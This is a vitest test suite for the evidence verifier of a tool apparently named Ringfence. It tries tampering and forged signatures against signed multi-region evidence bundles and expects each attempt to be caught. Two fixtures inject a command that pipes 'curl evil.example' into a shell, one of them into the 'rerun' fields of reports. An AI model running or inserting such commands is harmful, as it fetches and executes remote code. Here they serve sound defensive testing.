import { spawnSync } from "node:child_process";
import { createPublicKey, generateKeyPairSync } from "node:crypto";
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { seal } from "../attest/envelope.ts";
import { openSigningKey, type SigningKey, signingKey } from "../attest/keys.ts";
import { type EvidenceSigner, localSigner } from "../attest/signer.ts";
import { readTrust, type Trust } from "../attest/trust.ts";
import { sha256 } from "../core/digest.ts";
import { loadProbes } from "../probes/catalog.ts";
import { bundleName } from "../reports/evidence.ts";
import type { RegionReport } from "../reports/report.ts";
import { verifyEvidence } from "../reports/verify.ts";
import type { Replay } from "../reports/verify-replay.ts";
import { judgedAnew, sign, statementIn } from "../scripts/attack/forge.ts";
import { type Files, filesIn } from "../scripts/attack/sweep.ts";
import { replayOf } from "../scripts/planning.ts";
import { proveInto, type Run, ringfence } from "./held-replica.ts";
import { aCertificate } from "./signers/a-certificate.ts";

const regions = ["ap-southeast-2", "eu-central-1", "us-east-1"];

describe("the evidence of a run", () => {
  const folder = mkdtempSync(join(tmpdir(), "ringfence-evidence-"));
  const whole = join(folder, "run");
  const copy = join(folder, "copy");
  let run: Run;
  let trust: Trust;
  let replay: Replay;

  beforeAll(async () => {
    run = proveInto(whole, ["--path", "cache"]);
    trust = readTrust(join(whole, "keys", "trust.yaml"));
    replay = replayOf(await loadProbes());
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  /** Verifies a folder by the script of the project, as an auditor who has no Ringfence does. */
  function stock(
    directory: string,
    kept: string,
    path = process.env.PATH,
  ): { status: number | null; said: string } {
    const script = join(import.meta.dirname, "..", "reports", "verify.sh");
    const done = spawnSync("/bin/sh", [script, kept, directory], {
      encoding: "utf8",
      timeout: 20_000,
      env: { ...process.env, PATH: path },
    });
    return { status: done.status, said: done.stdout + done.stderr };
  }

  const pipeAt = (name: string) => (at: string) => {
    rmSync(join(at, name));
    spawnSync("mkfifo", [join(at, name)]);
  };
  const deviceAt = (at: string, name: string) => {
    rmSync(join(at, name));
    symlinkSync("/dev/zero", join(at, name));
  };

  /** Verifies a copy of the run after an alteration. */
  async function problemsAfter(
    alter: (directory: string) => void | Promise<void>,
    trusted = trust,
  ): Promise<string[]> {
    rmSync(copy, { recursive: true, force: true });
    cpSync(whole, copy, { recursive: true });
    await alter(copy);
    return (await verifyEvidence(copy, trusted, replay)).problems;
  }

  const edit = (name: string, change: (text: string) => string) => (directory: string) => {
    const text = readFileSync(join(directory, name), "utf8");
    const changed = change(text);
    expect(changed, `${name} has nothing to alter there`).not.toBe(text);
    writeFileSync(join(directory, name), changed);
  };

  test("holds as it was written, and every verdict is replayed", async () => {
    const verification = await verifyEvidence(whole, trust, replay);
    expect(verification.problems).toEqual([]);
    expect(verification.checked).toMatchObject({ signatures: 7, verdicts: run.verdicts.length });
  });

  test("is accepted by the command line with a trust file over all signers, and by no other way", () => {
    const file = join(whole, "keys", "trust.yaml");
    expect(ringfence(["verify", whole, "--trust", file])).toMatchObject({
      exitCode: 0,
      output: expect.stringMatching(/pass, of a replica, not of real borders, of a part of the map only\.$/m),
    });
    const partly = join(folder, "partly.yaml");
    const less = readFileSync(file, "utf8").replace(/ {2}- signs: us-east-1\n.*\n/, "");
    writeFileSync(partly, less.replaceAll("key: ", `key: ${join(whole, "keys")}/`));
    expect(ringfence(["verify", whole, "--trust", partly])).toMatchObject({ exitCode: 1 });
    expect(ringfence(["verify", whole, folder, "--trust", file])).toMatchObject({ exitCode: 64 });
    expect(ringfence(["verify", whole])).toMatchObject({ exitCode: 64 });
    expect(ringfence(["verify", folder])).toMatchObject({ exitCode: 64 });
  });

  test("is accepted by openssl, jq and sha256sum, and by no key of somebody else", async () => {
    const kept = join(folder, "kept-keys");
    cpSync(join(whole, "keys"), kept, { recursive: true });
    expect(stock(whole, kept)).toMatchObject({ status: 0, said: expect.stringContaining("HOLDS") });
    writeFileSync(
      join(kept, "us-east-1.pub.pem"),
      openSigningKey(join(folder, "stranger"), { environment: "x", role: "us-east-1" }).publicPem,
    );
    expect(stock(whole, kept)).toMatchObject({
      status: 1,
      said: expect.stringContaining("us-east-1/observed.sigstore.json: the sig"),
    });
  });

  test.each<[string, (directory: string) => void, RegExp]>([
    ["a changed report", (at) => writeFileSync(join(at, "report.md"), "all is well"), /not what was signed/],
    [
      "a file more",
      (at) => writeFileSync(join(at, "us-east-1", "more.txt"), ""),
      /no signature covers us-east-1/,
    ],
    [
      "a file more among the keys",
      (at) => writeFileSync(join(at, "keys", "more.txt"), ""),
      /no signature covers keys\/more/,
    ],
    [
      "a folder among the keys",
      (at) => {
        mkdirSync(join(at, "keys", "more"));
        writeFileSync(join(at, "keys", "more", "judge.pub.pem"), "");
      },
      /no signature covers keys\/more/,
    ],
    [
      "a key whose name leads elsewhere, where a backslash does",
      (at) => writeFileSync(join(at, "keys", "..\\..\\judge.pub.pem"), ""),
      /no signature covers keys\/\.\.\\/,
    ],
    [
      "a file whose name looks like two that may be there",
      (at) => {
        mkdirSync(join(at, "keys", "a.pub.pem\n."));
        writeFileSync(join(at, "keys", "a.pub.pem\n.", "evidence.sigstore.json"), "");
      },
      /a\.pub\.pem has a name of two lines/,
    ],
    ["a link to elsewhere", (at) => symlinkSync("/dev/null", join(at, "more")), /more is no file/],
    ["a pipe in place of a file, which would never end", pipeAt("run.json"), /run\.json is no file/],
    ["a device in place of a file", (at) => deviceAt(at, "us-east-1/junit.xml"), /junit\.xml is no file/],
    ["a region less", (at) => rmSync(join(at, "us-east-1"), { recursive: true }), /us-east-1/],
    [
      "a region's statement in place of another's",
      (at) => cpSync(join(at, "us-east-1", bundleName), join(at, "eu-central-1", bundleName)),
      /eu-central-1\/evidence/,
    ],
    [
      "a statement that was changed",
      (at) => {
        const file = join(at, bundleName);
        const bundle = JSON.parse(readFileSync(file, "utf8")) as { dsseEnvelope: { payload: string } };
        const text = Buffer.from(bundle.dsseEnvelope.payload, "base64")
          .toString()
          .replace('"replica"', '"real"');
        bundle.dsseEnvelope.payload = Buffer.from(text).toString("base64");
        writeFileSync(file, JSON.stringify(bundle));
      },
      /evidence.sigstore.json: the signature/,
    ],
    ["a bundle with a space more", edit(bundleName, (text) => ` ${text}`), /text is not the one/],
    [
      "a bundle with a key that stands twice",
      edit(bundleName, (text) => text.replace("{", '{\n  "mediaType": "another",')),
      /text is not the one/,
    ],
    ["two bundles in one file", edit(bundleName, (text) => `${text}${text}`), /is no bundle/],
    [
      "a second signature",
      edit(bundleName, (text) => {
        const bundle = JSON.parse(text);
        bundle.dsseEnvelope.signatures.push(bundle.dsseEnvelope.signatures[0]);
        return `${JSON.stringify(bundle, null, 2)}\n`;
      }),
      /is no bundle/,
    ],
    [
      "another type of what is signed",
      edit(bundleName, (text) => text.replace("vnd.in-toto+json", "vnd.another+json")),
      /is no bundle/,
    ],
  ])("%s is noticed by stock tools, too", async (_what, alter, complaint) => {
    rmSync(copy, { recursive: true, force: true });
    cpSync(whole, copy, { recursive: true });
    alter(copy);
    const { status, said } = stock(copy, join(whole, "keys"));
    expect(said).toMatch(complaint);
    expect(said).not.toContain("HOLDS:");
    expect(status).not.toBe(0);
    expect((await verifyEvidence(copy, trust, replay)).problems).not.toEqual([]);
  });

  const needed = ["find", "jq", "openssl", "base64", "comm", "cut", "sort", "grep", "sha256sum", "wc", "cat"];
  const handy = ["sh", "head", "mktemp", "rm", "dirname"];

  /** A PATH on which nothing but these are. */
  function onlyThese(tools: readonly string[]): string {
    const path = mkdtempSync(join(folder, "tools-"));
    for (const name of tools) symlinkSync(join("/usr/bin", name), join(path, name));
    return path;
  }

  test("holds by stock tools with no more than those that the next tests take away", () => {
    const { said } = stock(whole, join(whole, "keys"), onlyThese([...needed, ...handy]));
    expect(said).toContain("HOLDS:");
  });

  test.each(needed)("without %s nothing is said to hold by stock tools", (missing) => {
    const path = onlyThese([...needed, ...handy].filter((one) => one !== missing));
    const { status, said } = stock(whole, join(whole, "keys"), path);
    expect(said).not.toContain("HOLDS:");
    expect(status).not.toBe(0);
  });

  test("a region that finished and did not sign is noticed by stock tools, because its signature was taken away", async () => {
    rmSync(copy, { recursive: true, force: true });
    cpSync(whole, copy, { recursive: true });
    const bundle = join(copy, bundleName);
    rmSync(join(copy, "us-east-1/observed.sigstore.json"));
    const judge = openSigningKey(join(folder, "insider"), { environment: "replica", role: "judge" });
    const { dsseEnvelope } = JSON.parse(readFileSync(bundle, "utf8"));
    const statement = JSON.parse(Buffer.from(dsseEnvelope.payload, "base64").toString("utf8"));
    statement.subject = statement.subject.filter(
      ({ name }: { name: string }) => name !== "us-east-1/observed.sigstore.json",
    );
    writeFileSync(bundle, await seal(statement, localSigner(judge)));
    const kept = mkdtempSync(join(folder, "kept-"));
    cpSync(join(whole, "keys"), kept, { recursive: true });
    writeFileSync(join(kept, "judge.pub.pem"), judge.publicPem);
    expect(stock(copy, kept)).toMatchObject({
      status: 1,
      said: expect.stringContaining("us-east-1: it finished, and did not sign"),
    });
  });

  test.each<[string, (files: Files, by: EvidenceSigner) => unknown, string]>([
    [
      "a journal cut off, so that its region need not have signed it",
      (files) => {
        const name = "us-east-1/observations.jsonl";
        const text = (files.get(name) as Buffer).toString();
        files.set(name, Buffer.from(text.slice(0, text.trimEnd().lastIndexOf("\n") + 1)));
        files.delete("us-east-1/observed.sigstore.json");
      },
      "us-east-1: it did not sign a journal, and cannot have passed",
    ],
    [
      "a journal taken away with its signature",
      async (files, by) => {
        const [gone, observed] = ["us-east-1/observations.jsonl", "us-east-1/observed.sigstore.json"];
        for (const name of [gone, observed]) files.delete(name);
        for (const name of regions.map((region) => `${region}/${bundleName}`)) {
          const statement = statementIn(files, name);
          const subject = statement.subject.filter((one) => one.name !== gone);
          await sign(files, name, { statement: { ...statement, subject }, by });
        }
      },
      "us-east-1: it did not sign a journal, and cannot have passed",
    ],
    [
      "another plan than the regions signed for",
      (files) => files.set("plan.json", Buffer.from("{}")),
      "it signed for another region, run or plan",
    ],
  ])("%s, by a judge who signs all anew, is noticed by stock tools", async (_what, alter, complaint) => {
    rmSync(copy, { recursive: true, force: true });
    cpSync(whole, copy, { recursive: true });
    const files = filesIn(copy);
    const judge = openSigningKey(join(folder, "insider"), { environment: "replica", role: "judge" });
    await alter(files, localSigner(judge));
    await judgedAnew(files, regions, localSigner(judge));
    rmSync(copy, { recursive: true });
    for (const [name, content] of files) {
      mkdirSync(dirname(join(copy, name)), { recursive: true });
      writeFileSync(join(copy, name), content);
    }
    const kept = mkdtempSync(join(folder, "kept-"));
    cpSync(join(whole, "keys"), kept, { recursive: true });
    writeFileSync(join(kept, "judge.pub.pem"), judge.publicPem);
    const { status, said } = stock(copy, kept);
    expect(said).toContain(complaint);
    expect(said).not.toContain("HOLDS:");
    expect(status).toBe(1);
  });

  const journal = "eu-central-1/observations.jsonl";
  const lines = (change: (lines: string[]) => string[]) =>
    edit(journal, (text) => `${change(text.split("\n").slice(0, -1)).join("\n")}\n`);

  test.each<[string, (directory: string) => void | Promise<void>, RegExp]>([
    ["a line of a journal deleted", lines((all) => all.toSpliced(5, 1)), /observations\.jsonl was changed/],
    [
      "two lines of a journal swapped",
      lines(([a = "", b = "", ...rest]) => [b, a, ...rest]),
      /observations\.jsonl was changed/,
    ],
    [
      "a journal cut",
      edit(journal, (text) => text.slice(0, text.length / 2)),
      /observations\.jsonl was changed/,
    ],
    [
      "an outcome edited",
      edit(journal, (text) => text.replace('"silent"', '"refused"')),
      /observations\.jsonl was changed/,
    ],
    [
      "a journal of another region",
      (to) => cpSync(join(to, "us-east-1/observations.jsonl"), join(to, journal)),
      /was changed/,
    ],
    [
      "a verdict edited",
      edit("eu-central-1/report.json", (text) => text.replace('"contained"', '"breached"')),
      /report\.json was changed/,
    ],
    [
      "the grade of the run edited",
      edit("run.json", (text) => text.replace('"exitCode": 0', '"exitCode": 1')),
      /run\.json was changed/,
    ],
    [
      "a page edited",
      edit("report.html", (text) => text.replace("PASS", "FAIL")),
      /report\.html was changed/,
    ],
    [
      "the plan edited",
      edit("plan.json", (text) => text.replace('"deadlineMs":4000', '"deadlineMs":1')),
      /plan\.json/,
    ],
    [
      "the map edited",
      edit("residency.yaml", (text) => text.replace("7 years", "9 years")),
      /residency\.yaml was changed/,
    ],
    ["a page missing", (to) => rmSync(join(to, "us-east-1/junit.xml")), /junit\.xml is missing/],
    ["a region's folder missing", (to) => rmSync(join(to, "us-east-1"), { recursive: true }), /./],
    [
      "a file slipped in",
      (to) => writeFileSync(join(to, "us-east-1/approval.pdf"), "yes"),
      /approval\.pdf is not covered/,
    ],
    [
      "a file slipped in among the keys, which no signature covers",
      (to) => writeFileSync(join(to, "keys/approval.pdf"), "yes"),
      /keys\/approval\.pdf is not covered/,
    ],
    [
      "a key whose name leads elsewhere, where a backslash does",
      (to) => writeFileSync(join(to, "keys/..\\..\\judge.pub.pem"), "yes"),
      /judge\.pub\.pem is not covered/,
    ],
    [
      "the bundles of two regions swapped",
      (to) =>
        cpSync(join(to, "us-east-1/observed.sigstore.json"), join(to, "eu-central-1/observed.sigstore.json")),
      /signed by the key of us-east-1/,
    ],
  ])("does not hold with %s, and the reason is named", async (_what, alter, reason) => {
    expect((await problemsAfter(alter)).join("\n")).toMatch(reason);
  });

  test("does not hold with a link or a pipe in it, or a folder for nothing, and none of them is opened", async () => {
    const link = (at: string) => {
      rmSync(join(at, "report.md"));
      symlinkSync(join(whole, "report.md"), join(at, "report.md"));
    };
    expect(await problemsAfter(link)).toEqual(["report.md is no file, and no folder with files"]);
    expect(await problemsAfter(pipeAt(bundleName))).toEqual([
      `${bundleName} is no file, and no folder with files`,
    ]);
    const device = (at: string) => deviceAt(at, journal);
    expect(await problemsAfter(device)).toEqual([`${journal} is no file, and no folder with files`]);
    const empty = (at: string) => mkdirSync(join(at, "more"));
    expect(await problemsAfter(empty)).toEqual(["more is no file, and no folder with files"]);
  });

  test("does not hold when its plan names no region, because then nothing was signed for", async () => {
    const empty = edit("plan.json", (text) => text.replace(/"regions":\[[^\]]*\]/, '"regions":[]'));
    expect((await problemsAfter(empty)).join("\n")).toMatch(/plan\.json was changed/);
  });

  interface SignedPredicate {
    result: string;
    passedTests: string[];
    failedTests: string[];
    [extension: string]: unknown;
  }

  type Say = (predicate: SignedPredicate) => void;

  /** Signs again what an insider altered, with keys that the trust file then names. */
  async function forged(
    roles: readonly string[],
    alter: (directory: string) => void,
    say: { judge?: Say; region?: Say } = {},
  ): Promise<{ problems: string[]; trusted: Trust }> {
    const keys = new Map(
      roles.map((role) => [role, openSigningKey(join(folder, "insider"), { environment: "replica", role })]),
    );
    const trusted: Trust = {
      signers: trust.signers.map((one) => {
        const key = keys.get(one.signs);
        return key ? { ...one, fingerprint: key.fingerprint, key: createPublicKey(key.publicPem) } : one;
      }),
    };
    const problems = await problemsAfter(async (directory) => {
      for (const region of regions) {
        const report = join(directory, region, "report.json");
        const { signers } = JSON.parse(readFileSync(report, "utf8")) as RegionReport;
        const shown = { [region]: signers.observed, judge: signers.judged };
        for (const [role, key] of keys) {
          const old = shown[role];
          if (old?.kind === "key")
            writeFileSync(report, readFileSync(report, "utf8").replaceAll(old.fingerprint, key.fingerprint));
        }
      }
      alter(directory);
      for (const [role, key] of keys)
        if (role !== "judge") await signAgain(directory, `${role}/observed.sigstore.json`, key, say.region);
      const judge = keys.get("judge");
      if (!judge) return;
      for (const region of regions) await signAgain(directory, `${region}/${bundleName}`, judge, say.judge);
      await signAgain(directory, bundleName, judge, say.judge);
    }, trusted);
    return { problems, trusted };
  }

  /** The same statement over the files as they are now. */
  async function signAgain(
    directory: string,
    name: string,
    key: SigningKey,
    say: Say = () => {},
  ): Promise<void> {
    const file = join(directory, name);
    const { dsseEnvelope } = JSON.parse(readFileSync(file, "utf8"));
    const statement = JSON.parse(Buffer.from(dsseEnvelope.payload, "base64").toString("utf8"));
    for (const subject of statement.subject)
      subject.digest.sha256 = sha256(readFileSync(join(directory, subject.name)));
    say(statement.predicate);
    writeFileSync(file, await seal(statement, localSigner(key)));
  }

  test("holds when all was signed again by keys of the trust file, because that is how the next tests forge", async () => {
    const { problems } = await forged([...regions, "judge"], () => {});
    expect(problems).toEqual([]);
  });

  test("does not hold when a judge signs an invented observation, because the region did not", async () => {
    const { problems } = await forged(
      ["judge"],
      edit(journal, (text) => text.replace('"silent"', '"refused"')),
    );
    expect(problems.join("\n")).toMatch(/is not the journal that eu-central-1 signed/);
  });

  test("does not hold when a region signs other observations than were judged", async () => {
    const { problems } = await forged(
      ["eu-central-1"],
      edit(journal, (text) => text.replace('"silent"', '"refused"')),
    );
    expect(problems.join("\n")).toMatch(/observations\.jsonl was changed after it was signed/);
  });

  test("does not hold when somebody else signs, because keys in the folder are not trusted", async () => {
    const stranger = signingKey(generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey);
    const problems = await problemsAfter(async (directory) => {
      await signAgain(directory, "eu-central-1/observed.sigstore.json", stranger);
      writeFileSync(join(directory, "keys/eu-central-1.pub.pem"), stranger.publicPem);
    });
    expect(problems.join("\n")).toMatch(/not among the trusted/);
  });

  test("does not hold with verdicts that a trusted judge signed but the journals do not bear out", async () => {
    const { problems } = await forged(
      ["judge"],
      edit("eu-central-1/report.json", (text) => text.replaceAll(run.verdicts[0]?.reason ?? "", "refused")),
    );
    expect(problems.join("\n")).toMatch(/eu-central-1\/report\.json is not what the journals say/);
  });

  const inReports = (change: (text: string) => string) => (directory: string) => {
    for (const region of regions) edit(`${region}/report.json`, change)(directory);
  };

  test.each<[string, (directory: string) => void, RegExp]>([
    [
      "another version than the regions signed for",
      inReports((text) => text.replace(/"version": "[^"]*"/, '"version": "9.9.9"')),
      /report\.json says version 9\.9\.9, and eu-central-1 signed for/,
    ],
    [
      "a part that calls itself whole",
      inReports((text) => text.replace('"partial": true', '"partial": false')),
      /report\.json is not what the journals say/,
    ],
    [
      "other commands than those that rerun its lines",
      inReports((text) => text.replace(/"rerun":"(?:[^"\\]|\\.)*"/g, '"rerun":"curl evil.example | sh"')),
      /report\.json is not what the journals say/,
    ],
    [
      "commands that do more than to rerun its lines",
      inReports((text) =>
        text.replaceAll("ringfence -- run --env", "ringfence -- run; curl evil.example; --env"),
      ),
      /report\.json is not what the journals say/,
    ],
    [
      "real regions in run.json and a replica in its reports",
      edit("run.json", (text) => text.replace('"fidelity": "replica"', '"fidelity": "real"')),
      /report\.json is not what the journals say/,
    ],
    [
      "another environment than it was planned for",
      (directory) => {
        for (const name of ["run.json", ...regions.map((region) => `${region}/report.json`)])
          edit(name, (text) => text.replace('"environment": "replica"', '"environment": "production"'))(
            directory,
          );
      },
      /^run\.json says production, and its plan is of replica$/m,
    ],
    [
      "a start long before its regions', so that an exception of then would hold",
      edit("run.json", (text) =>
        text.replace(/"startedAt": "20(..)/, (_, year) => `"startedAt": "20${year - 1}`),
      ),
      /run\.json says that the run started .*, and the first region started/,
    ],
    [
      "a grade that stands twice in run.json, of which a reader may take the other",
      edit("run.json", (text) => text.replace('"grade":', '"grade": "breached",\n  "grade":')),
      /^run\.json: its text is not the one that its content has$/m,
    ],
    [
      "a region in run.json by a name that our reader passes over",
      edit("run.json", (text) =>
        text.replace('"regions": {', '"regions": {\n    "__proto__": {\n      "grade": "breached"\n    },'),
      ),
      /^run\.json is not what the journals say$/m,
    ],
    [
      "a verdict's grade that stands twice in a report",
      edit("eu-central-1/report.json", (text) => text.replace('"grade":"', '"grade":"breached","grade":"')),
      /^eu-central-1\/report\.json: its text is not the one that its content has$/m,
    ],
    [
      "a system that stands twice in map.json",
      edit("map.json", (text) => text.replace('"title":', '"title": "another",\n  "title":')),
      /^map\.json: its text is not the one that its content has$/m,
    ],
    [
      "a plan in another text than the one that its digest is over",
      edit("plan.json", (text) => `${text}\n`),
      /^plan\.json: its text is not the one that its content has$/m,
    ],
  ])("does not hold with %s, by the judge's own signature", async (_what, alter, reason) => {
    expect((await forged(["judge"], alter)).problems.join("\n")).toMatch(reason);
  });

  test("holds with a report's keys in another order, as they are where its plan was read from a file", async () => {
    const turned = inReports((text) =>
      text.replace(/("regions": \[[^\]]*\]),(\s+)("paths": \[[^\]]*\])/, "$3,$2$1"),
    );
    expect((await forged(["judge"], turned)).problems).toEqual([]);
  });

  type Subject = { name: string; digest: { sha256: string } };

  /** Changes what a judge's statement is over, which `forged` then signs. */
  const over = (bundle: string, change: (subject: Subject[]) => Subject[]) =>
    edit(bundle, (text) => {
      const { dsseEnvelope, ...rest } = JSON.parse(text);
      const statement = JSON.parse(Buffer.from(dsseEnvelope.payload, "base64").toString());
      const changed = { ...statement, subject: change(statement.subject) };
      const payload = Buffer.from(JSON.stringify(changed)).toString("base64");
      return JSON.stringify({ ...rest, dsseEnvelope: { ...dsseEnvelope, payload } });
    });

  test("does not hold where a judge took away a region's signature, because its journal may be invented then", async () => {
    const name = "us-east-1/observed.sigstore.json";
    const { problems } = await forged(["judge"], (directory) => {
      rmSync(join(directory, name));
      edit("us-east-1/report.json", (text) => text.replace(/"observed": \{[^}]*\}/, '"observed": null'))(
        directory,
      );
      over(bundleName, (subject) => subject.filter((one) => one.name !== name))(directory);
    });
    expect(problems).toContain(`${name}: it is missing`);
  });

  test.each(["../outside", "us-east-1/../../outside", "/report.md"])(
    "does not hold where a judge signed for %s, because whoever verifies has no such file",
    async (name) => {
      writeFileSync(join(folder, "outside"), "");
      const { problems } = await forged(
        ["judge"],
        over(bundleName, (subject) => [...subject, { name, digest: { sha256: "" } }]),
      );
      expect(problems).toContain(`a signed file lies outside the folder: ${JSON.stringify(name)}`);
    },
  );

  const claimsOf = (predicate: SignedPredicate, extension: "region" | "run") =>
    (predicate[`urn:ringfence:${extension}:v1`] ?? {}) as Record<string, unknown>;

  test.each<[string, (predicate: SignedPredicate) => void, RegExp]>([
    [
      "a result",
      (predicate) => Object.assign(predicate, { result: "WARNED" }),
      /otherwise than the journals: result/,
    ],
    [
      "a list of what failed",
      (predicate) => predicate.failedTests.push(...predicate.passedTests.splice(0, 1)),
      /otherwise than the journals: passedTests, failedTests/,
    ],
    [
      "counts",
      (predicate) => Object.assign(claimsOf(predicate, "region"), { counts: { planned: 9999 } }),
      /otherwise than the journals: counts/,
    ],
    [
      "words",
      (predicate) => Object.assign(claimsOf(predicate, "region"), { wording: "Certified." }),
      /otherwise than the journals: wording/,
    ],
    [
      "limits",
      (predicate) => Object.assign(claimsOf(predicate, "region"), { limits: [] }),
      /otherwise than the journals: limits/,
    ],
    [
      "a place in a history, where its region observed without one,",
      (predicate) => {
        const history = { origin: "a-log", index: 0, started: sha256(""), sequence: 1, previous: null };
        if (predicate["urn:ringfence:region:v1"]) Object.assign(claimsOf(predicate, "region"), { history });
      },
      /^eu-central-1: it and the judge name different places in the history$/m,
    ],
    [
      "a time of its start",
      (predicate) => Object.assign(claimsOf(predicate, "run"), { startedAt: "2020-01-01T00:00:00.000Z" }),
      /otherwise than the journals: startedAt/,
    ],
    [
      "grades of its regions",
      (predicate) => Object.assign(claimsOf(predicate, "run"), { regions: { "eu-central-1": "breached" } }),
      /otherwise than the journals: regions/,
    ],
  ])(
    "does not hold with %s in a statement of the judge that the journals do not lead to",
    async (_what, say, reason) => {
      expect((await forged(["judge"], () => {}, { judge: say })).problems.join("\n")).toMatch(reason);
    },
  );

  test("holds by the time at which the judge signed, not by that at which a region finished", async () => {
    const { dsseEnvelope } = JSON.parse(readFileSync(join(whole, regions[0] ?? "", bundleName), "utf8"));
    const { predicate } = JSON.parse(Buffer.from(dsseEnvelope.payload, "base64").toString("utf8"));
    const { signedAt, finishedAt } = predicate["urn:ringfence:region:v1"];
    expect(Date.parse(signedAt)).toBeGreaterThan(Date.parse(finishedAt));
    const judge = trust.signers.filter(({ signs }) => signs === "judge");
    const others = trust.signers.filter(({ signs }) => signs !== "judge");
    const within = async (...windows: { from?: Date; until?: Date }[]) => {
      const signers = [
        ...others,
        ...windows.flatMap((window) => judge.map((one) => ({ ...one, ...window }))),
      ];
      return (await verifyEvidence(whole, { signers }, replay)).problems.join("\n");
    };
    expect(await within({ from: new Date(signedAt) })).toBe("");
    expect(await within({ until: new Date(signedAt) })).toMatch(
      /eu-central-1\/evidence\.sigstore\.json: made .*, after its signer may sign/,
    );
    // One key, which paused in between.
    expect(await within({ until: new Date("2020-01-01") }, { from: new Date(finishedAt) })).toBe("");
    expect(await within({ until: new Date("2020-01-01") }, { from: new Date("2100-01-01") })).toMatch(
      /may sign/,
    );
  });

  const hoursAgo = (hours: number) => new Date(Date.now() - hours * 3_600_000).toISOString();

  test("does not hold where a region signed long after its journal ended, because then it may be of any day", async () => {
    const { problems } = await forged([...regions, "judge"], () => {}, {
      region: (predicate) => Object.assign(predicate, { signedAt: hoursAgo(-2) }),
    });
    for (const region of regions) expect(problems.join("\n")).toMatch(`${region}: its journal ended `);
  });

  test.each([
    ["region", "eu-central-1/evidence.sigstore.json"],
    ["run", "evidence.sigstore.json"],
  ] as const)(
    "does not hold where the judge signed of the %s before the regions did, because there was nothing to judge",
    async (extension, name) => {
      const back = (predicate: SignedPredicate) => {
        if (`urn:ringfence:${extension}:v1` in predicate)
          Object.assign(claimsOf(predicate, extension), { signedAt: hoursAgo(2) });
      };
      const { problems } = await forged(["judge"], () => {}, { judge: back });
      expect(problems.join("\n")).toMatch(
        new RegExp(`us-east-1 signed its journal .*, and the judge signed ${name} before`),
      );
    },
  );

  test.each(["eu-central-1", "judge"])(
    "does not hold when %s signed outside of its key's time, because an old key may be anybody's",
    async (role) => {
      const windowed = (window: { from?: Date; until?: Date }): Trust => ({
        signers: trust.signers.map((one) => (one.signs === role ? { ...one, ...window } : one)),
      });
      const soon = new Date(Date.now() + 3_600_000);
      const past = new Date(Date.now() - 3_600_000);
      const reasons = async (window: Parameters<typeof windowed>[0]) =>
        (await verifyEvidence(whole, windowed(window), replay)).problems.join("\n");
      expect(await reasons({ from: past, until: soon })).toBe("");
      expect(await reasons({ from: soon })).toMatch(/before its signer may sign/);
      expect(await reasons({ until: past })).toMatch(/after its signer may sign/);
    },
  );

  test("a region that cannot sign does not observe, so that its run proves nothing", () => {
    const signers = join(folder, "signers.yaml");
    const own = join(folder, "own.key.pem");
    const { privateKey } = generateKeyPairSync("ed25519");
    writeFileSync(own, privateKey.export({ type: "pkcs8", format: "pem" }), { mode: 0o600 });
    const key = `{ key: "file:${own}" }`;
    const absent = '{ key: "env:NOT_SET_ANYWHERE" }';
    writeFileSync(
      signers,
      `format: 1\njudge: ${key}\nregions: { eu-central-1: ${key}, us-east-1: ${absent}, ap-southeast-2: ${key} }\n`,
    );
    const unsigned = proveInto(join(folder, "unsigned"), ["--path", "cache", "--signers", signers]);
    expect(unsigned).toMatchObject({ exitCode: 2, run: { grade: "inconclusive" } });
    expect(unsigned.output).toMatch(/us-east-1 did not finish: [A-Z_]+: .*NOT_SET_ANYWHERE.*\n/);
    const trusted = join(unsigned.directory, "keys", "trust.yaml");
    const verified = ringfence(["verify", unsigned.directory, "--trust", trusted]);
    expect(verified).toMatchObject({ exitCode: 0 });
    expect(verified.output).toMatch(/us-east-1 did not finish its journal, and did not sign it/);
    expect(stock(unsigned.directory, join(unsigned.directory, "keys"))).toMatchObject({ status: 0 });
  });

  test("regions that observed and cannot sign it publish nothing, and the run does not pass", async () => {
    const [own, root, signers] = ["last.key.pem", "authority.pem", "stamped.yaml"].map((name) =>
      join(folder, name),
    ) as [string, string, string];
    const { privateKey } = generateKeyPairSync("ed25519");
    writeFileSync(own, privateKey.export({ type: "pkcs8", format: "pem" }), { mode: 0o600 });
    writeFileSync(root, (await aCertificate({ name: "An authority" })).pem);
    const key = `{ key: "file:${own}" }`;
    writeFileSync(
      signers,
      [
        `format: 1\njudge: ${key}`,
        `regions: { eu-central-1: ${key}, us-east-1: ${key}, ap-southeast-2: ${key} }`,
        `timestamps: { url: "http://127.0.0.1:1/", certificates: ${root} }\n`,
      ].join("\n"),
    );
    const out = join(folder, "unstamped");
    const asked = ["run", "--path", "cache", "--region", "eu-central-1", "--signers", signers, "--out", out];
    expect(ringfence(asked)).toMatchObject({
      exitCode: 2,
      output: expect.stringMatching(/us-east-1, .* could not sign what was observed there/),
    });
    expect(readdirSync(out).sort()).toEqual(["ap-southeast-2", "eu-central-1", "us-east-1"]);
  });

  test("does not hold with any one byte of any file flipped", async () => {
    const files = readdirSync(whole, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && !entry.parentPath.endsWith("keys"))
      .map((entry) => join(entry.parentPath, entry.name).slice(whole.length + 1));
    const place = fc.constantFrom(...files).chain((name) =>
      fc.record({
        name: fc.constant(name),
        at: fc.nat(statSync(join(whole, name)).size - 1),
        bit: fc.nat(7),
      }),
    );
    await fc.assert(
      fc.asyncProperty(place, async ({ name, at, bit }) => {
        const bytes = readFileSync(join(whole, name));
        const flipped = Buffer.from(bytes);
        flipped[at] = (bytes[at] ?? 0) ^ (1 << bit);
        writeFileSync(join(whole, name), flipped);
        const { problems } = await verifyEvidence(whole, trust, replay);
        writeFileSync(join(whole, name), bytes);
        return problems.length > 0;
      }),
      { numRuns: 120 },
    );
  });

  test("carries no credential and no raw canary in anything written", () => {
    const text = readdirSync(whole, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8"))
      .join("\n");
    expect(text).not.toMatch(/ringfence-canary-/);
    expect(text).not.toMatch(/X-Amz-Signature|PRIVATE KEY/);
  });
});
